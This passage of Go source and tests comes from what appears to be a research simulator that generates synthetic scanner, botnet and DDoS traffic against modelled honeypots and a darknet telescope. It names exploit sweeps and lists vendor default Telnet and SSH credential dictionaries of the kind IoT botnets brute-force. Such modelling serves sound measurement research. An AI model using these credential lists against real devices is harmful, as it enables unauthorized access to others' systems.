			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{22}, PerIP: 1})
		}))
	}
	// Slow web reconnaissance: requests indistinguishable from a
	// browser except for the rare probing payload.
	webExploits := HTTPExploitIDs("global")
	for _, asn := range []int{9009, 60068, 174} {
		name := "stealth-web-" + strconv.Itoa(asn)
		actors = append(actors, newActor(cfg, name, asn, false, 40, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{80, 443}, Cover: 0.06, MinAttempts: 1,
				Payload: exploitMix(webExploits, 0.05),
			})
		}))
	}
	return actors
}

// --- burst-ddos: synchronized short-lived floods -----------------------------

// floodPlan derives the scenario's shared burst schedule. Every member
// re-derives the identical schedule from the scenario-scoped stream
// name, so the floods synchronize across actors without any shared
// mutable state — the same trick the baseline's latch plans use, which
// is what keeps the pack byte-identical across worker counts.
func floodPlan(ctx *Context) []time.Time {
	rng := netsim.Stream(ctx.Seed, "scenario:burst-ddos:plan")
	starts := make([]time.Time, 4)
	for i := range starts {
		h := rng.Intn(netsim.StudyHours - 1)
		starts[i] = netsim.StudyStart.Add(time.Duration(h) * time.Hour)
	}
	return starts
}

// floodClock timestamps probes inside the shared burst windows: each
// flood lasts minutes, and the week is silent in between.
func floodClock(ctx *Context) func(*rand.Rand) time.Time {
	starts := floodPlan(ctx)
	return func(rng *rand.Rand) time.Time {
		return burstTime(rng, starts[rng.Intn(len(starts))], 10*time.Minute)
	}
}

func burstDDoSScenario(cfg Config) []*Actor {
	actors := ambientActors(cfg)
	// Botnet members across consumer ISPs: payloadless SYN-style
	// floods against web ports, packed into the shared windows, with a
	// matching darknet splash (spoof-style backscatter sweeps).
	for _, asn := range miraiASNs[:10] {
		name := "ddos-" + strconv.Itoa(asn)
		actors = append(actors, newActor(cfg, name, asn, false, 32, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			clock := floodClock(ctx)
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{80, 443}, Cover: 0.5,
				MinAttempts: 5, MaxAttempts: 12,
				Time: clock,
			})
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{80}, PerIP: 6, Time: clock})
		}))
	}
	// The booter's aim point: bulletproof-hosted nodes that pile onto
	// one victim region during the same windows, with login attempts
	// riding the flood (credential stuffing under cover of volume).
	for _, asn := range []int{202425, 204428, 48693} {
		name := "ddos-booter-" + strconv.Itoa(asn)
		dict := sshCreds("root-heavy")
		actors = append(actors, newActor(cfg, name, asn, false, 20, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			victim := pickRegionVictim(ctx, "he:us-ohio", "ddos")
			if victim == nil {
				return
			}
			clock := floodClock(ctx)
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{22, 80}, Cover: 0.9,
				Filter:      func(t *netsim.Target) bool { return t == victim },
				MinAttempts: 4, MaxAttempts: 10,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, dict, 1, 2)
				},
				Time: clock,
			})
		}))
	}
	return actors
}
