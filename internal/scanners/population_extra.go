package scanners

import (
	"math/rand"
	"strconv"

	"cloudwatch/internal/netsim"
)

// --- Internet background radiation (telescope-only) --------------------------

// backgroundRadiation floods the darknet with the broad, shallow
// population that makes telescopes see orders of magnitude more unique
// sources than any honeypot (Table 1: Orion observes 5.1M unique IPs
// against ~100K per honeypot network). These sources never touch the
// honeypots, which is also why they do not perturb the Table 8 overlap
// fractions.
func backgroundRadiation(cfg Config) []*Actor {
	ports := []uint16{23, 445, 80, 22, 8080, 2323, 1433, 5060, 3389, 8443, 81, 5555}
	var actors []*Actor
	for i, as := range netsim.AllAS() {
		i, as := i, as
		name := "ibr-" + strconv.Itoa(as.ASN)
		actors = append(actors, newActor(cfg, name, as.ASN, false, 40, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanTelescope(ctx, emit, TelescopeScan{
				Ports: []uint16{ports[i%len(ports)], ports[(i+5)%len(ports)]},
				PerIP: 4,
			})
		}))
	}
	return actors
}

// --- Narrow web sweeps (HTTP/All payload divergence, §4.1) -------------------

// narrowWebSweeps are low-coverage single-payload campaigns on the
// HTTP-family ports. Because each campaign samples only a small
// fraction of targets, neighboring honeypots end up with different
// top-3 payload sets across all ports — the paper's strongest
// neighborhood effect (77% of neighborhoods differ on HTTP/All
// payloads).
func narrowWebSweeps(cfg Config) []*Actor {
	sweeps := []struct {
		name    string
		asn     int
		port    uint16
		payload []byte
	}{
		{"sweep-log4shell-8080", 202425, 8080, exploitLog4Shell},
		{"sweep-boaform-8080", 45899, 8080, exploitBoaform},
		{"sweep-hnap-8080", 17974, 8080, exploitHNAP},
		{"sweep-thinkphp-8080", 4837, 8080, exploitThinkPHP},
		{"sweep-jaws-8080", 9829, 8080, exploitJAWS},
		{"sweep-citrix-443", 16276, 443, exploitCitrix},
		{"sweep-traversal-443", 24940, 443, exploitTraversal},
		{"sweep-env-8080", 49505, 8080, exploitEnvProbe},
		{"sweep-git-443", 14061, 443, exploitGitProbe},
		{"sweep-wplogin-8080", 36352, 8080, exploitWPLogin},
		{"sweep-docker-8080", 45090, 8080, exploitDocker},
		{"sweep-hadoop-8080", 37963, 8080, exploitHadoop},
	}
	var actors []*Actor
	for _, sw := range sweeps {
		sw := sw
		// The sweep payloads are exploit-corpus entries already
		// registered at init; interning here resolves the shared id.
		payID := netsim.InternPayload(sw.payload)
		actors = append(actors, newActor(cfg, sw.name, sw.asn, false, 8, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{sw.port}, Cover: 0.20,
				MinAttempts: 3, MaxAttempts: 8,
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID { return payID },
			})
			// Web sweeps walk the whole address space: they reach the
			// darknet too (Table 8: 73-80% overlap on 80/8080).
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{sw.port}, PerIP: 4, Pick: Avoid255(4)})
		}))
	}
	return actors
}

// --- Benign monitor latchers (fraction-malicious divergence, §4.1) -----------

// monitorLatchers attach benign connect-and-banner clients (uptime
// monitors, misconfigured clients) to single honeypots. They dilute
// the malicious fraction of their victim only, which is what makes
// "Fraction Malicious" differ between neighbors with a small effect
// size (Table 2: 36% of SSH/22 neighborhoods, φ≈0.12). Their source
// ASes mirror the protocol's dominant scanning ASes in roughly the
// population's proportions, so the AS distribution of the victim is
// scaled rather than reshaped and the Top-3-AS comparisons stay
// untouched.
func monitorLatchers(cfg Config) []*Actor {
	regions := greyNoiseRegionKeys()
	rng := netsim.Stream(cfg.Seed, "monitor-plan")
	// (asn, ips): proportional to the SSH and Telnet campaign sizes.
	sshMix := []struct{ asn, ips int }{{4134, 5}, {56046, 2}, {174, 2}, {16276, 1}, {24940, 1}}
	telnetMix := []struct{ asn, ips int }{{4134, 3}, {4837, 2}, {3462, 2}, {17974, 2}, {9829, 1}}
	var actors []*Actor
	for _, region := range regions {
		region := region
		var port uint16
		switch {
		case rng.Float64() < 0.38:
			port = 22
		case rng.Float64() < 0.28:
			port = 23
		default:
			continue
		}
		mix := sshMix
		if port == 23 {
			mix = telnetMix
		}
		for _, m := range mix {
			m := m
			port := port
			name := "monitor-" + strconv.Itoa(int(port)) + "-" + strconv.Itoa(m.asn) + "-" + region
			actors = append(actors, newActor(cfg, name, m.asn, false, m.ips, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
				victim := pickRegionVictim(ctx, region, "monitor-"+strconv.Itoa(int(port)))
				if victim == nil {
					return
				}
				a.ScanServices(ctx, emit, ServiceScan{
					Ports: []uint16{port}, Cover: 0.95,
					Filter:      func(t *netsim.Target) bool { return t == victim },
					MinAttempts: 5, MaxAttempts: 10,
					// No credentials, no payload: a pure benign
					// connection stream on an interactive port.
				})
				if port == 23 {
					a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{23}, PerIP: 4})
				}
			}))
		}
	}
	return actors
}

// telnetVendorDicts are per-campaign credential sets with vendor-
// specific passwords; latch campaigns draw from these so neighboring
// Telnet honeypots see different top password sets (Table 2: 19% of
// neighborhoods differ on Telnet passwords with large φ).
var telnetVendorDicts = [][]netsim.Credential{
	{
		{Username: "hikuser", Password: "hikvision"},
		{Username: "hikadmin", Password: "hikvision"},
		{Username: "hikuser", Password: "hichiphone"},
	},
	{
		{Username: "dreambox", Password: "dreambox"},
		{Username: "dreambox", Password: "realtek"},
		{Username: "realtek", Password: "1001chin"},
	},
	{
		{Username: "telnetadmin", Password: "telnetadmin"},
		{Username: "telnetadmin", Password: "taZz@23495859"},
		{Username: "tech", Password: "20080826"},
	},
	{
		{Username: "default", Password: "S2fGqNFs"},
		{Username: "default", Password: "OxhlwSG8"},
		{Username: "daemon", Password: "GM8182"},
	},
	{
		{Username: "e8ehome", Password: "e8ehome"},
		{Username: "e8telnet", Password: "e8telnet"},
		{Username: "e8ehome", Password: "Zte521"},
	},
}

// sshAltPasswords is the rare alternate SSH password set; only a small
// share of SSH latch campaigns use it, keeping SSH password
// divergence rare (Table 2: 4% of neighborhoods).
var sshAltPasswords = []netsim.Credential{
	{Username: "root", Password: "changeme"},
	{Username: "root", Password: "letmein"},
	{Username: "admin", Password: "qwerty123"},
}
