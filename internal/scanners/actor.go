package scanners

import (
	"math/rand"
	"strconv"
	"time"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/searchengine"
	"cloudwatch/internal/wire"
)

// Context carries everything an actor consults while generating
// traffic: the monitored universe and the two search-engine indexes.
// All fields are read-only during traffic generation, so one Context
// may be shared by actors running on concurrent workers.
type Context struct {
	U      *netsim.Universe
	Censys *searchengine.Engine
	Shodan *searchengine.Engine
	Seed   int64
	Year   int

	// est, when non-nil, switches the scan primitives into estimation
	// mode: ScanServices adds its expected emission count here and
	// emits nothing; ScanTelescope contributes nothing (telescope
	// probes never become records). Set only on the private context
	// copy EstimateEmission drives.
	est *float64
}

// Actor is one scanning organization or botnet: a set of source IPs in
// one AS plus a traffic-generation behavior.
type Actor struct {
	Name   string
	AS     netsim.AS
	Benign bool // GreyNoise-vetted organization
	IPs    []wire.Addr
	Gen    func(a *Actor, ctx *Context, emit func(*netsim.Probe))

	// arena is the actor's credential slab (see credAlloc). Lazily
	// created; shared by design when an actor value is copied for a
	// narrowed re-scan, which is safe because an actor's generation
	// runs on a single goroutine.
	arena *credSlab
}

// credSlab carves the small record-retained credential slices of
// cred-carrying probes out of chunked backing arrays, so a bruteforce
// campaign costs one allocation per ~thousand login attempts instead
// of one per probe. Returned slices are capacity-clipped, so a later
// append through one can never spill into the next allocation.
type credSlab struct {
	buf []netsim.Credential
}

// credSlabChunk is the slab chunk size in credentials: large enough to
// amortize allocation across a campaign's probes, small enough that a
// finished chunk retained by a handful of records wastes little.
const credSlabChunk = 1024

func (s *credSlab) alloc(n int) []netsim.Credential {
	if n <= 0 {
		return nil
	}
	if len(s.buf)+n > cap(s.buf) {
		size := credSlabChunk
		if n > size {
			size = n
		}
		s.buf = make([]netsim.Credential, 0, size)
	}
	off := len(s.buf)
	s.buf = s.buf[:off+n]
	return s.buf[off : off : off+n]
}

// credAlloc returns an empty credential slice with capacity n drawn
// from the actor's slab. The slice is retained by the records that
// observe it; the slab chunk stays alive exactly as long as any of its
// slices do. Callers run on the actor's single generation goroutine.
func (a *Actor) credAlloc(n int) []netsim.Credential {
	if a.arena == nil {
		a.arena = &credSlab{}
	}
	return a.arena.alloc(n)
}

// Run generates the actor's traffic for the study week.
//
// Concurrency contract: distinct actors may Run concurrently against
// a shared Context. Every random draw comes from streams keyed by the
// actor's own name (see rng, ScanServices, ScanTelescope), so an
// actor's probe sequence never depends on when — or alongside whom —
// it is scheduled. emit is called from the goroutine that called Run;
// callers running actors in parallel must pass a per-worker emit or a
// concurrency-safe one.
//
// Aliasing contract: the *Probe passed to emit is valid only for the
// duration of the call — generators reuse one probe variable across
// emissions, so a callee that wants to keep the probe must copy it
// (`keep := *p`), never retain the pointer. Copying the probe's Creds
// slice header is fine: credential lists are arena-allocated per
// emission and never reused.
func (a *Actor) Run(ctx *Context, emit func(*netsim.Probe)) {
	if a.Gen != nil {
		a.Gen(a, ctx, emit)
	}
}

// rng returns the actor's deterministic random stream.
func (a *Actor) rng(ctx *Context) *rand.Rand {
	return netsim.Stream(ctx.Seed, "actor:"+a.Name)
}

// safeFirstOctets are first octets guaranteed disjoint from every
// vantage-point pool in internal/cloud, so scanner sources never
// collide with monitored addresses.
var safeFirstOctets = []byte{
	5, 11, 14, 24, 27, 31, 38, 41, 45, 59, 61, 77, 89, 91, 101, 103,
	109, 113, 121, 133, 151, 163, 177, 185, 190, 195, 200, 203, 211, 221,
}

// SourceIPs derives n deterministic source addresses for an AS: a /16
// chosen by hashing the ASN, hosts spread through it. Distinct actors
// in the same AS get distinct hosts via the salt. The stream name is
// assembled with byte appends (population construction derives one
// stream per actor; fmt is measurably slower there).
func SourceIPs(as netsim.AS, salt string, n int, seed int64) []wire.Addr {
	name := make([]byte, 0, 7+10+1+len(salt))
	name = append(name, "srcips:"...)
	name = strconv.AppendInt(name, int64(as.ASN), 10)
	name = append(name, ':')
	name = append(name, salt...)
	h := netsim.PooledStream(seed, string(name))
	defer h.Release()
	rng := h.Rand
	first := safeFirstOctets[as.ASN%len(safeFirstOctets)]
	second := byte((as.ASN / len(safeFirstOctets)) % 256)
	base := wire.AddrFrom4(first, second, 0, 0)
	seen := make(map[wire.Addr]bool, n)
	out := make([]wire.Addr, 0, n)
	for len(out) < n {
		ip := base + wire.Addr(rng.Intn(65536))
		if ip == base || seen[ip] {
			continue
		}
		seen[ip] = true
		out = append(out, ip)
	}
	return out
}

// uniformTime draws a timestamp uniformly over the study week.
func uniformTime(rng *rand.Rand) time.Time {
	sec := rng.Int63n(int64(netsim.StudyHours) * 3600)
	return netsim.StudyStart.Add(time.Duration(sec) * time.Second)
}

// burstTime draws a timestamp inside a burst window starting at start.
func burstTime(rng *rand.Rand, start time.Time, width time.Duration) time.Time {
	if width <= 0 {
		return start
	}
	return start.Add(time.Duration(rng.Int63n(int64(width))))
}

// ServiceScan describes a sweep over the honeypot targets.
type ServiceScan struct {
	Ports       []uint16                     // destination ports probed
	Transport   wire.Transport               // defaults to TCP
	Filter      func(*netsim.Target) bool    // eligible targets (nil = all service targets)
	Cover       float64                      // P(src hits an eligible target)
	Weight      func(*netsim.Target) float64 // per-target cover multiplier (nil = 1)
	MinAttempts int                          // probes per (src, target, port) hit
	MaxAttempts int                          // inclusive; 0 means MinAttempts
	// Payload returns the interned id of the probe's first payload
	// (0 = none). Actors draw ids from dictionaries registered with the
	// study-wide interner at package init (see payloads.go), so no
	// payload bytes are built, hashed, or copied per probe.
	Payload func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID
	Creds   func(rng *rand.Rand, t *netsim.Target) []netsim.Credential // login attempts per probe (nil = none)
	Time    func(rng *rand.Rand) time.Time                             // probe timestamp (nil = uniform over week)
}

// ScanServices runs one ServiceScan for every source IP of the actor.
// In estimation mode (see EstimateEmission) it adds the scan's expected
// emission count to the context's accumulator and returns without
// drawing randomness or emitting anything.
func (a *Actor) ScanServices(ctx *Context, emit func(*netsim.Probe), s ServiceScan) {
	targets := ctx.U.ServiceTargets()
	// Precompute each target's listening subset of s.Ports once: the
	// src × target × port loop below would otherwise repeat the
	// ListensOn checks per source IP. Port order is preserved and the
	// sub-slices share one backing array (one allocation, not one per
	// target), so the rng draw sequence is identical to the naive loop.
	flat := make([]uint16, 0, len(targets)*len(s.Ports))
	openPorts := make([][]uint16, len(targets))
	for ti, t := range targets {
		lo := len(flat)
		for _, port := range s.Ports {
			if t.ListensOn(port) {
				flat = append(flat, port)
			}
		}
		openPorts[ti] = flat[lo:len(flat):len(flat)]
	}
	if ctx.est != nil {
		// Expected probes = Σ_targets P(hit) × open ports × mean
		// attempts, per source IP — exact in expectation, no rng.
		perIP := 0.0
		for ti, t := range targets {
			if s.Filter != nil && !s.Filter(t) {
				continue
			}
			cover := s.Cover
			if s.Weight != nil {
				cover *= s.Weight(t)
			}
			if cover <= 0 {
				continue
			}
			attempts := float64(s.MinAttempts)
			if s.MaxAttempts > s.MinAttempts {
				attempts = float64(s.MinAttempts+s.MaxAttempts) / 2
			}
			if attempts < 1 {
				attempts = 1
			}
			perIP += clampProb(cover) * float64(len(openPorts[ti])) * attempts
		}
		*ctx.est += perIP * float64(len(a.IPs))
		return
	}
	h := netsim.PooledStream(ctx.Seed, "svc:"+a.Name)
	defer h.Release()
	rng := h.Rand
	transport := s.Transport
	if transport == 0 {
		transport = wire.TCP
	}
	timeFn := s.Time
	if timeFn == nil {
		timeFn = uniformTime
	}
	// One probe variable for the whole scan, emitted by address: the
	// per-probe ~100-byte struct copy (and its heap escape through the
	// emit func value) happens once per scan instead of once per probe.
	var p netsim.Probe
	for _, src := range a.IPs {
		for ti, t := range targets {
			if s.Filter != nil && !s.Filter(t) {
				continue
			}
			cover := s.Cover
			if s.Weight != nil {
				cover *= s.Weight(t)
			}
			if cover <= 0 || rng.Float64() >= clampProb(cover) {
				continue
			}
			for _, port := range openPorts[ti] {
				attempts := s.MinAttempts
				if s.MaxAttempts > s.MinAttempts {
					attempts += rng.Intn(s.MaxAttempts - s.MinAttempts + 1)
				}
				if attempts < 1 {
					attempts = 1
				}
				for k := 0; k < attempts; k++ {
					// Field stores instead of a struct-literal assignment:
					// re-copying the whole probe per emission showed up as
					// measurable copy overhead in generation profiles.
					p.T = timeFn(rng)
					p.Src = src
					p.ASN = a.AS.ASN
					p.Dst = t.IP
					p.Port = port
					p.Transport = transport
					p.Pay = 0
					p.Creds = nil
					if s.Payload != nil {
						p.Pay = s.Payload(rng, t)
					}
					if s.Creds != nil {
						p.Creds = s.Creds(rng, t)
					}
					emit(&p)
				}
			}
		}
	}
}

// TelescopeScan describes a sweep over the darknet ranges.
type TelescopeScan struct {
	Ports     []uint16
	Transport wire.Transport // defaults to TCP
	PerIP     int            // telescope addresses sampled per source IP
	// Pick chooses a telescope address (nil = uniform). Structure-
	// biased scanners install rejection samplers here.
	Pick func(rng *rand.Rand, u *netsim.Universe) wire.Addr
	Time func(rng *rand.Rand) time.Time
}

// ScanTelescope runs one TelescopeScan for every source IP. Telescope
// probes carry no payload: the collector would not record one anyway
// (telescopes never complete the handshake).
func (a *Actor) ScanTelescope(ctx *Context, emit func(*netsim.Probe), s TelescopeScan) {
	if ctx.U.TelescopeSize() == 0 || s.PerIP <= 0 {
		return
	}
	if ctx.est != nil {
		// Telescope probes never become records, so they contribute
		// nothing to the record-emission estimate.
		return
	}
	h := netsim.PooledStream(ctx.Seed, "tel:"+a.Name)
	defer h.Release()
	rng := h.Rand
	transport := s.Transport
	if transport == 0 {
		transport = wire.TCP
	}
	timeFn := s.Time
	if timeFn == nil {
		timeFn = uniformTime
	}
	pick := s.Pick
	if pick == nil {
		pick = UniformTelescope
	}
	// See ScanServices: one probe variable per scan, emitted by address.
	var p netsim.Probe
	for _, src := range a.IPs {
		for i := 0; i < s.PerIP; i++ {
			dst := pick(rng, ctx.U)
			for _, port := range s.Ports {
				// Field stores, not a struct literal — see ScanServices.
				p.T = timeFn(rng)
				p.Src = src
				p.ASN = a.AS.ASN
				p.Dst = dst
				p.Port = port
				p.Transport = transport
				p.Pay = 0
				p.Creds = nil
				emit(&p)
			}
		}
	}
}

// UniformTelescope picks telescope addresses uniformly.
func UniformTelescope(rng *rand.Rand, u *netsim.Universe) wire.Addr {
	return u.TelescopeAddr(rng.Intn(u.TelescopeSize()))
}

// Avoid255 builds a telescope picker that keeps addresses containing a
// 255 octet with probability 1/factor — the §4.2 avoidance behavior
// ("61 times less likely" for 7574/Oracle, "9 times less" for
// 445/SMB).
func Avoid255(factor float64) func(*rand.Rand, *netsim.Universe) wire.Addr {
	return func(rng *rand.Rand, u *netsim.Universe) wire.Addr {
		for i := 0; i < 64; i++ {
			a := UniformTelescope(rng, u)
			if !a.HasOctet(255) || rng.Float64() < 1/factor {
				return a
			}
		}
		return UniformTelescope(rng, u)
	}
}

// PreferSlash16Start builds a picker that makes the first address of
// each /16 `multiplier` times more likely than any other address —
// Mirai/PonyNet's port-22 preference ("one order of magnitude more
// likely to choose the first address of a /16 as its first scanning
// target" ⇒ multiplier ≈ 10). The bias is scale-aware: it adapts to
// however many /16 starts the telescope contains (memoized on the
// universe; the picker runs once per probe).
func PreferSlash16Start(multiplier float64) func(*rand.Rand, *netsim.Universe) wire.Addr {
	return func(rng *rand.Rand, u *netsim.Universe) wire.Addr {
		starts := u.TelescopeSlash16Starts()
		if len(starts) > 0 {
			p := (multiplier - 1) * float64(len(starts)) / float64(u.TelescopeSize())
			if rng.Float64() < p {
				return starts[rng.Intn(len(starts))]
			}
		}
		return UniformTelescope(rng, u)
	}
}

// FixedTelescopeSet builds a picker latched onto specific offsets into
// the telescope space — the Figure 1d four-address botnet.
func FixedTelescopeSet(offsets []int) func(*rand.Rand, *netsim.Universe) wire.Addr {
	return func(rng *rand.Rand, u *netsim.Universe) wire.Addr {
		off := offsets[rng.Intn(len(offsets))]
		return u.TelescopeAddr(off % u.TelescopeSize())
	}
}

func clampProb(p float64) float64 {
	if p > 1 {
		return 1
	}
	if p < 0 {
		return 0
	}
	return p
}
