package scanners

import (
	"bytes"
	"strings"
	"sync"
	"testing"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/searchengine"
	"cloudwatch/internal/wire"
)

func miniUniverse(t *testing.T) *netsim.Universe {
	t.Helper()
	targets := []*netsim.Target{
		{ID: "aws:ap-sydney:0", IP: wire.MustParseAddr("52.16.0.10"), Network: "aws",
			Kind: netsim.KindCloud, Region: "aws:ap-sydney",
			Geo:   netsim.Geo{Country: "AU", Continent: "APAC"},
			Ports: []uint16{22, 23, 80}, Collector: netsim.CollectGreyNoise},
		{ID: "aws:ap-sydney:1", IP: wire.MustParseAddr("52.16.0.11"), Network: "aws",
			Kind: netsim.KindCloud, Region: "aws:ap-sydney",
			Geo:   netsim.Geo{Country: "AU", Continent: "APAC"},
			Ports: []uint16{22, 23, 80}, Collector: netsim.CollectGreyNoise},
		{ID: "stanford:0", IP: wire.MustParseAddr("171.64.0.10"), Network: "stanford",
			Kind: netsim.KindEducation, Region: "stanford:us-west",
			Geo:   netsim.Geo{Country: "US", Sub: "CA", Continent: "NA"},
			Ports: []uint16{22, 23, 80}, Collector: netsim.CollectHoneytrap},
	}
	u, err := netsim.NewUniverse(7, 2021, targets)
	if err != nil {
		t.Fatal(err)
	}
	u.TelescopeBlocks = []wire.Block{wire.MustParseBlock("100.64.0.0/24")}
	return u
}

func miniContext(t *testing.T) *Context {
	u := miniUniverse(t)
	censys := searchengine.New("censys")
	shodan := searchengine.New("shodan")
	censys.Crawl(u, netsim.StudyStart)
	shodan.Crawl(u, netsim.StudyStart)
	return &Context{U: u, Censys: censys, Shodan: shodan, Seed: 7, Year: 2021}
}

func TestSourceIPsDeterministicAndDisjoint(t *testing.T) {
	as := netsim.MustAS(4134)
	a := SourceIPs(as, "x", 50, 1)
	b := SourceIPs(as, "x", 50, 1)
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("SourceIPs not deterministic")
		}
	}
	c := SourceIPs(as, "y", 50, 1)
	same := 0
	for i := range a {
		if a[i] == c[i] {
			same++
		}
	}
	if same > 5 {
		t.Errorf("different salts should give different hosts: %d matches", same)
	}
	// Uniqueness within one allocation.
	seen := map[wire.Addr]bool{}
	for _, ip := range a {
		if seen[ip] {
			t.Fatal("duplicate source IP")
		}
		seen[ip] = true
	}
}

func TestSourceIPsAvoidVantagePools(t *testing.T) {
	for _, asn := range []int{4134, 398324, 53667, 16509} {
		for _, ip := range SourceIPs(netsim.MustAS(asn), "t", 100, 3) {
			first := ip.Octet(0)
			switch {
			case first >= 52 && first <= 55, first >= 34 && first <= 37,
				first >= 20 && first <= 23, first == 172, first == 216,
				first == 171, first == 198, first == 100:
				t.Fatalf("source %v collides with a vantage pool", ip)
			}
		}
	}
}

func TestScanServicesRespectsFilterAndPorts(t *testing.T) {
	ctx := miniContext(t)
	actor := &Actor{Name: "t", AS: netsim.MustAS(4134), IPs: SourceIPs(netsim.MustAS(4134), "t", 20, 7)}
	var probes []netsim.Probe
	actor.ScanServices(ctx, func(p *netsim.Probe) { probes = append(probes, *p) }, ServiceScan{
		Ports: []uint16{22, 9999}, Cover: 1.0, MinAttempts: 1,
		Filter: func(tg *netsim.Target) bool { return tg.Kind == netsim.KindCloud },
	})
	if len(probes) != 40 { // 20 srcs x 2 cloud targets x port 22 only
		t.Fatalf("probes = %d, want 40", len(probes))
	}
	for _, p := range probes {
		if p.Port != 22 {
			t.Errorf("closed port probed: %d", p.Port)
		}
		tg, ok := ctx.U.ByIP(p.Dst)
		if !ok || tg.Kind != netsim.KindCloud {
			t.Errorf("filter violated: %v", p.Dst)
		}
		if p.T.Before(netsim.StudyStart) {
			t.Error("timestamp before study start")
		}
	}
}

func TestScanTelescopeStaysInBlocks(t *testing.T) {
	ctx := miniContext(t)
	actor := &Actor{Name: "t", AS: netsim.MustAS(4134), IPs: SourceIPs(netsim.MustAS(4134), "t", 5, 7)}
	var probes []netsim.Probe
	actor.ScanTelescope(ctx, func(p *netsim.Probe) { probes = append(probes, *p) }, TelescopeScan{
		Ports: []uint16{445}, PerIP: 30,
	})
	if len(probes) != 150 {
		t.Fatalf("probes = %d, want 150", len(probes))
	}
	for _, p := range probes {
		if !ctx.U.InTelescope(p.Dst) {
			t.Fatalf("telescope probe escaped blocks: %v", p.Dst)
		}
		if p.Payload != nil {
			t.Error("telescope probes carry no payload")
		}
	}
}

func TestAvoid255Picker(t *testing.T) {
	ctx := miniContext(t)
	rng := netsim.Stream(1, "avoid")
	pick := Avoid255(9)
	has255, total := 0, 20000
	for i := 0; i < total; i++ {
		if pick(rng, ctx.U).HasOctet(255) {
			has255++
		}
	}
	// Uniform expectation in a /24: 1/256 ≈ 78 of 20000; with 9x
	// avoidance ≈ 9. Allow generous bounds.
	if has255 > 40 {
		t.Errorf("255-octet picks = %d, avoidance not applied", has255)
	}
	if has255 == 0 {
		t.Error("255-octet picks = 0, avoidance too strong (should be rare, not impossible)")
	}
}

func TestFixedTelescopeSet(t *testing.T) {
	ctx := miniContext(t)
	rng := netsim.Stream(1, "fixed")
	pick := FixedTelescopeSet([]int{5, 9})
	seen := map[wire.Addr]bool{}
	for i := 0; i < 100; i++ {
		seen[pick(rng, ctx.U)] = true
	}
	if len(seen) != 2 {
		t.Errorf("fixed set produced %d distinct addresses, want 2", len(seen))
	}
}

func TestPopulationConstruction(t *testing.T) {
	actors := Population(Config{Seed: 1, Year: 2021, Scale: 0.3})
	if len(actors) < 100 {
		t.Fatalf("population has %d actors, want >= 100", len(actors))
	}
	names := map[string]bool{}
	benign := 0
	for _, a := range actors {
		if names[a.Name] {
			t.Errorf("duplicate actor name %q", a.Name)
		}
		names[a.Name] = true
		if len(a.IPs) == 0 {
			t.Errorf("actor %q has no source IPs", a.Name)
		}
		if a.Benign {
			benign++
		}
	}
	if benign < 3 {
		t.Errorf("population has %d benign actors, want >= 3", benign)
	}
	// The named behaviors of the paper must exist.
	for _, want := range []string{"censys", "shodan", "mirai-4134", "emirates-mumbai",
		"satnet-not-mumbai", "smb445-sweep", "port17128-botnet", "chinanet-ssh",
		"miner-http-censys", "nmap-avast", "mirai-huawei-au"} {
		if !names[want] {
			t.Errorf("population missing actor %q", want)
		}
	}
}

func TestPopulationYearVariants(t *testing.T) {
	base := Population(Config{Seed: 1, Year: 2021, Scale: 0.2})
	y2020 := Population(Config{Seed: 1, Year: 2020, Scale: 0.2})
	if len(y2020) <= len(base) {
		t.Error("2020 population should add anomaly actors")
	}
	found := false
	for _, a := range y2020 {
		if strings.HasPrefix(a.Name, "anomaly2020-") {
			found = true
		}
	}
	if !found {
		t.Error("2020 anomaly actors missing")
	}
}

func TestPopulationGenerationDeterministic(t *testing.T) {
	run := func() []netsim.Probe {
		ctx := miniContext(t)
		var probes []netsim.Probe
		for _, a := range Population(Config{Seed: 7, Year: 2021, Scale: 0.1}) {
			a.Run(ctx, func(p *netsim.Probe) { probes = append(probes, *p) })
		}
		return probes
	}
	a, b := run(), run()
	if len(a) != len(b) {
		t.Fatalf("probe counts differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i].Src != b[i].Src || a[i].Dst != b[i].Dst || !a[i].T.Equal(b[i].T) {
			t.Fatalf("probe %d differs", i)
		}
	}
}

func TestHTTPExploitsPanicsOnUnknownGroup(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("unknown group should panic")
		}
	}()
	HTTPExploits("no-such-group")
}

func TestPickCreds(t *testing.T) {
	rng := netsim.Stream(1, "creds")
	dict := TelnetDictGlobal()
	got := (&Actor{}).pickCreds(rng, dict, 2, 5)
	if len(got) < 2 || len(got) > 5 {
		t.Errorf("pickCreds size = %d", len(got))
	}
	// No duplicates.
	seen := map[netsim.Credential]bool{}
	for _, c := range got {
		if seen[c] {
			t.Error("duplicate credential")
		}
		seen[c] = true
	}
	// Requesting more than the dictionary yields the whole dictionary.
	small := dict[:3]
	if got := (&Actor{}).pickCreds(rng, small, 5, 9); len(got) != 3 {
		t.Errorf("oversized request = %d creds, want 3", len(got))
	}
}

// TestCredSlabSlicesAreIsolated proves the per-actor slab hands out
// non-overlapping, capacity-clipped slices: earlier picks keep their
// contents as later picks (including chunk rollovers) fill the slab,
// and appending through a returned slice cannot reach its neighbor.
func TestCredSlabSlicesAreIsolated(t *testing.T) {
	rng := netsim.Stream(2, "slab")
	a := &Actor{}
	dict := TelnetDictGlobal()
	var picks [][]netsim.Credential
	var want [][]netsim.Credential
